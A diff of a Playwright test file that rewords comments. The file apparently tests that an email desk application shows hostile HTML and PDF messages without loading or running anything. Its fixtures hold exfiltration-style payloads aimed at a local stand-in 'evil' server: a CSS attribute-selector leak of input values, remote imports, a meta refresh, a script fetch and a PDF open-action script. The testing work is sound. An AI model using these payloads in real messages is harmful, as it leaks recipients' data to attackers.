@@ -20,7 +20,7 @@ const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwA
 
 let api: OwnApi;
 let elsewhere: Server;
-/** Requests to the server that only a hostile message names. */
+/** Requests to a server that only a hostile message names. */
 let asked: string[];
 let inboundPort: number;
 let mailServer: SMTPServer;
@@ -63,10 +63,10 @@ test.afterAll(async () => {
 });
 
 const evil = () => `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
-/** A page of the same server, under a name that tests may open. */
+/** A page of the same server, under a host name that tests may open. */
 const outside = () => `http://localhost:${(elsewhere.address() as AddressInfo).port}/desk/elsewhere`;
 
-/** Everything that HTML can load, run or send by. */
+/** All ways in which HTML can load, run or send. */
 const hostile = () => `
 <html><head><title>No title of a person</title><base href="${evil()}/"><meta http-equiv="refresh" content="0;url=${evil()}/refresh">
 <link rel="stylesheet" href="${evil()}/link.css"><style>@import url("${evil()}/import.css");
@@ -85,7 +85,7 @@ input[value^="a"]{background:url("${evil()}/exfiltrated")}</style><script>fetch(
 <div id="divRplyFwdMsg"><b>Von:</b> Mainstage &lt;booking@venue.example&gt;<br><b>Gesendet:</b> Freitag, 12. Juni 2026 14:05<br><b>An:</b> Anna Berg<br><b>Betreff:</b> Ihre Anfrage</div><p>Hallo Frau Berg, das sind unsere Worte.</p>
 </body></html>`;
 
-/** A page with words, a script that runs when it is opened, and a link over all of it. */
+/** A page with text, an open-action script, and a link over the whole page. */
 const pdf = () => `%PDF-1.4
 1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('${evil()}/pdf'\\))>>>>endobj
 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
@@ -97,7 +97,7 @@ endstream endobj
 6 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(${evil()}/link)>>>>endobj
 trailer<</Root 1 0 R>>`;
 
-/** A reply of the lead's visitor to all, the lead's copy address among them. */
+/** A reply-all of the lead's visitor, including the lead's copy address. */
 async function receiveFor(page: Page, leadId: string): Promise<void> {
   const answer = await page.request.get(`${api.url}${deskApi}/leads/${leadId}`);
   const { email, reply } = (await answer.json()) as DeskLeadDetail;
@@ -125,7 +125,7 @@ async function openedLead(page: Page): Promise<void> {
   await page.goto(`${api.url}/desk/leads/${lead.id}`);
 }
 
-/** What the message shows, and that nothing of it ran or was loaded, whoever embeds it. */
+/** The message is shown, and nothing of it was executed or loaded, in any frame. */
 async function expectShown(page: Page): Promise<void> {
   const dialogs: string[] = [];
   page.on('dialog', (dialog) => {
